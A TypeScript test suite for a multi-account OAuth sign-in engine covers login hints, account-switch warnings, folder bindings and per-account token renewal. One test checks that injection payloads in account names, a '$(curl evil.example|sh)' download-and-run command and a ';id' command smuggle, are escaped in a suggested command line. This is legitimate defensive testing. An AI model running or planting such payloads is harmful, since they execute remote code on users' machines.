import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { type AuthorizationServer, startAuthorizationServer } from '../../demo/authorization-server.ts'
import { Secret } from '../../src/auth/secret.ts'
import type { AuthRequest, Reason } from '../../src/auth/types.ts'
import { clean } from '../../src/text.ts'
import { scriptedBrowser } from '../support/browser.ts'
import { BROWSER, createEngine, DEVICE, requestFor, storedGrant, tokenOf, whyOf } from '../support/engine.ts'
import { json, startFaultyServer } from '../support/faulty-server.ts'
import { testStore } from '../support/token-store.ts'

const mcp = 'http://127.0.0.1:1/mcp'
const ADA = 'ada@example.com'
const BOB = 'bob@example.com'
let server: AuthorizationServer

beforeEach(async () => {
  server = await startAuthorizationServer({ resource: mcp })
})
afterEach(() => server.close())

const request = (reason: Reason = 'initial', more: Partial<AuthRequest> = {}) =>
  requestFor({ mcp, issuer: server.issuer }, reason, more)

/** A program in a folder, in which this person answers every panel. */
function programOf(
  who: string,
  store = testStore(),
  more: {
    folder?: string
    account?: string
    identity?: boolean
    first?: typeof BROWSER
    command?: string
  } = {},
) {
  const { folder, account, identity = true, first = BROWSER, command } = more
  return createEngine({
    store,
    first,
    browser: scriptedBrowser({ as: who }),
    policy: { folder, accountOf: () => account, optionsOf: () => ({ identity }), switchCommand: command },
  })
}

const asked = (name: string) =>
  server.requests
    .filter(({ endpoint }) => endpoint === 'authorization')
    .map(({ parameters }) => parameters[name])

describe('the person whom the page is to expect', () => {
  it('is named when they sign in again, also by another program after the grant is gone', async () => {
    const store = testStore()
    await programOf(ADA, store).ask(request())
    expect(asked('login_hint')).toEqual([undefined])
    const again = programOf(ADA, store)
    await again.ask(request('reauth'))
    expect(again.prompt.panels[0]?.view).toMatchObject({ account: ADA, wanted: ADA })
    store.grants.clear()
    const later = programOf(ADA, store)
    await later.ask(request())
    expect(later.prompt.panels[0]?.view).toMatchObject({ account: undefined, wanted: ADA })
    expect(asked('login_hint')).toEqual([undefined, ADA, ADA])
    expect(asked('prompt')).toEqual(['consent', 'consent', 'consent'])
  })

  it('is not named where nobody knows, where the person wants another one, and to a server that has not said it', async () => {
    const store = testStore()
    await programOf(ADA, store, { identity: false }).ask(request())
    await programOf(ADA, store, { identity: false }).ask(request('reauth'))
    expect(asked('login_hint')).toEqual([undefined, undefined])
    await programOf(ADA, store).ask(request('reauth'))
    const engine = programOf(BOB, store, { first: DEVICE })
    const answer = engine.ask(request('reauth'))
    const panel = await engine.prompt.panel()
    await panel.step('device')
    panel.choose({ kind: 'account' })
    await answer
    expect(asked('login_hint')).toEqual([undefined, undefined, undefined, undefined])
    expect(asked('prompt').at(-1)).toBe('login consent')

    const other = await startAuthorizationServer({ resource: mcp })
    try {
      await programOf(ADA, store).ask(requestFor({ mcp, issuer: other.issuer }))
      const last = other.requests.findLast(({ endpoint }) => endpoint === 'authorization')
      expect(last?.parameters.login_hint).toBeUndefined()
    } finally {
      await other.close()
    }
  })

  it('is asked for by the page where an account is new and others are there', async () => {
    const store = testStore()
    await programOf(ADA, store).ask(request())
    const second = programOf(BOB, store, { account: 'work' })
    await second.ask(request())
    expect(second.prompt.panels[0]?.view).toMatchObject({ account: undefined, wanted: 'work' })
    expect(asked('prompt')).toEqual(['consent', 'login consent'])
    expect(second.prompt.lines).toEqual([])
    expect(second.prompt.panels[0]?.result).toMatchObject({ kind: 'signed-in', account: BOB })
  })
})

describe('somebody else than before', () => {
  it('is a warning, and nothing is lost', async () => {
    const store = testStore()
    await programOf(ADA, store).ask(request())
    const engine = programOf(BOB, store)
    const token = tokenOf(await engine.ask(request('reauth')))
    expect(engine.prompt.lines).toEqual([
      `notes: signed in as ${BOB}; it was ${ADA} until now (/account notes ${ADA} goes back)`,
    ])
    expect(engine.prompt.levels).toEqual(['warning'])
    expect([...store.grants.values()].map(({ account }) => account)).toEqual([ADA, BOB])
    expect(tokenOf(await engine.ask(request()))).toBe(token)
    // What was last signed in to is used from then on, also by others, until somebody says something else.
    const next = programOf(ADA, store)
    expect(tokenOf(await next.ask(request()))).toBe(token)
    await next.accounts.use(request().server, ADA)
    expect(tokenOf(await next.ask(request()))).not.toBe(token)
    expect(next.prompt.panels).toEqual([])
  })

  it.each([
    [ADA, ADA],
    ['"$(curl evil.example|sh)"@example.com', '<name>'],
    ['ada;id@example.com', '"ada;id@example.com"'],
  ])('on a command line %s is one word', async (who, word) => {
    const store = testStore()
    await programOf(who, store).ask(request())
    const engine = programOf(BOB, store, { command: 'copilot-host auth account' })
    await engine.ask(request('reauth'))
    expect(engine.prompt.lines[0]).toMatch(`until now (copilot-host auth account notes ${word} goes back)`)
  })

  it('in a folder that is bound: this program goes on as them, the folder stays as it is', async () => {
    const store = testStore()
    await programOf(ADA, store).ask(request())
    await programOf(ADA, store, { folder: '/shop' }).accounts.use(request().server, ADA)
    const engine = programOf(BOB, store, { folder: '/shop/src' })
    await engine.ask(request('reauth'))
    expect(engine.prompt.lines).toEqual([
      `notes: signed in as ${BOB}; this folder is bound to ${ADA} (/account notes ${ADA} goes back)`,
    ])
    expect(await engine.accounts.inUse(request().server)).toBe(BOB)
    expect(await programOf(ADA, store, { folder: '/shop' }).accounts.inUse(request().server)).toBeUndefined()
    expect(await programOf(ADA, store, { folder: '/else' }).accounts.inUse(request().server)).toBeUndefined()
  })

  it('for another account than that of the folder: the one that was named is told, not the folder', async () => {
    const store = testStore()
    await programOf(ADA, store).ask(request())
    await programOf(BOB, store, { account: 'work' }).ask(request())
    await programOf(ADA, store, { folder: '/shop' }).accounts.use(request().server, ADA)
    const engine = programOf('zoe@example.com', store, { folder: '/shop', account: 'work' })
    await engine.ask(request('reauth'))
    expect(engine.prompt.lines).toEqual([
      `notes: signed in as zoe@example.com; it was ${BOB} until now (/account notes ${BOB} goes back)`,
    ])
  })

  it('as the person wanted: one quiet line, and the folder is theirs from then on', async () => {
    const store = testStore()
    await programOf(ADA, store).ask(request())
    await programOf(ADA, store, { folder: '/shop' }).accounts.use(request().server, ADA)
    const engine = programOf(BOB, store, { folder: '/shop', first: DEVICE })
    const answer = engine.ask(request('reauth'))
    const panel = await engine.prompt.panel()
    await panel.step('device')
    panel.choose({ kind: 'account' })
    await answer
    expect(engine.prompt.levels).toEqual(['info'])
    expect(engine.prompt.lines[0]).toContain(`(/account notes ${ADA} goes back)`)
    expect(await programOf(ADA, store, { folder: '/shop' }).accounts.inUse(request().server)).toBe(BOB)
  })

  it('who is chosen while a sign-in is under way stays chosen', async () => {
    const store = testStore()
    await programOf(ADA, store).ask(request())
    await programOf(BOB, store, { account: 'work' }).ask(request())
    const engine = programOf(ADA, store, { account: 'default', first: DEVICE })
    const answer = engine.ask(request('reauth'))
    const panel = await engine.prompt.panel()
    await panel.step('device')
    await engine.accounts.use(request().server, 'work')
    panel.choose(BROWSER)
    await answer
    expect(await engine.accounts.inUse(request().server)).toBe('work')
  })
})

it('tells as whom a server is called once there are several, and remembers it in the journal', async () => {
  const store = testStore()
  const first = programOf(ADA, store)
  await first.ask(request())
  expect(first.acting).toEqual([['notes', undefined]])
  const second = programOf(BOB, store, { account: 'work' })
  await second.ask(request())
  await second.accounts.use(request().server, ADA)
  await second.ask(request())
  expect(second.acting).toEqual([
    ['notes', BOB],
    ['notes', ADA],
  ])
  expect(second.journal.map(({ account, outcome }) => [account, outcome])).toEqual([[BOB, 'signed-in']])
})

describe('each account by itself', () => {
  it('a renewal of one never touches another, and neither does its end', async () => {
    const faulty = await startFaultyServer({
      '/token': json({ access_token: 'renewed', token_type: 'Bearer', expires_in: 3600 }),
    })
    const at = { mcp: faulty.mcp, issuer: faulty.origin }
    const ask = (engine: ReturnType<typeof programOf>) => engine.ask(requestFor(at))
    const store = testStore()
    const engine = createEngine({ store, policy: { ask: false, accountOf: () => 'work' } })
    const over = { expiresAt: engine.clock.now() - 1, refresh: new Secret('r') }
    const { grant } = storedGrant(store, at, engine.clock.now(), { ...over, access: new Secret('first') })
    store.grants.set(`${faulty.mcp} ${faulty.origin} work`, { ...grant, access: new Secret('second') })
    try {
      expect(tokenOf(await ask(engine))).toBe('renewed')
      const tokens = () => [...store.grants.values()].map(({ access }) => access.reveal())
      expect(tokens()).toEqual(['first', 'renewed'])
      faulty.break('/token', json({ error: 'invalid_grant' }, 400))
      const other = createEngine({ store, policy: { ask: false } })
      expect(whyOf(await ask(other))).toBe('sign-in-needed')
      expect(tokens()).toEqual(['renewed'])
      expect(tokenOf(await ask(engine))).toBe('renewed')
    } finally {
      await faulty.close()
    }
  })

  it('a token that was refused says nothing about those of the others', async () => {
    const store = testStore()
    await programOf(ADA, store).ask(request())
    await programOf(BOB, store, { account: 'work' }).ask(request())
    const engine = programOf(ADA, store, { account: 'default' })
    const first = tokenOf(await engine.ask(request()))
    await engine.accounts.use(request().server, 'work')
    const second = tokenOf(await engine.ask(request()))
    engine.rejected('notes')
    expect(second).not.toBe(first)
    await engine.accounts.use(request().server, 'default')
    expect(tokenOf(await engine.ask(request()))).toBe(first)
    await engine.accounts.use(request().server, 'work')
    expect(tokenOf(await engine.ask(request()))).not.toBe(second)
    expect(engine.prompt.panels).toEqual([])
  })

  it('the server refuses a token right after somebody else was chosen: theirs is the answer', async () => {
    const store = testStore()
    await programOf(ADA, store).ask(request())
    await programOf(BOB, store, { account: 'work' }).ask(request())
    const engine = programOf(ADA, store)
    const second = tokenOf(await engine.ask(request()))
    await engine.accounts.use(request().server, 'default')
    const first = tokenOf(await engine.ask(request('refresh')))
    expect(first).not.toBe(second)
    await engine.accounts.use(request().server, 'work')
    // Ada's token is the one that is refused now; that of Bob had been refused before.
    expect(tokenOf(await engine.ask(request('refresh')))).not.toBe(second)
    expect(engine.prompt.panels).toEqual([])
  })

  it('without a person: which account needs a sign-in', async () => {
    const engine = createEngine({ policy: { ask: false, accountOf: () => clean('work') } })
    const answer = await engine.ask(request())
    expect(answer).toMatchObject({ error: { message: 'notes needs a sign-in as work (first use)' } })
  })
})
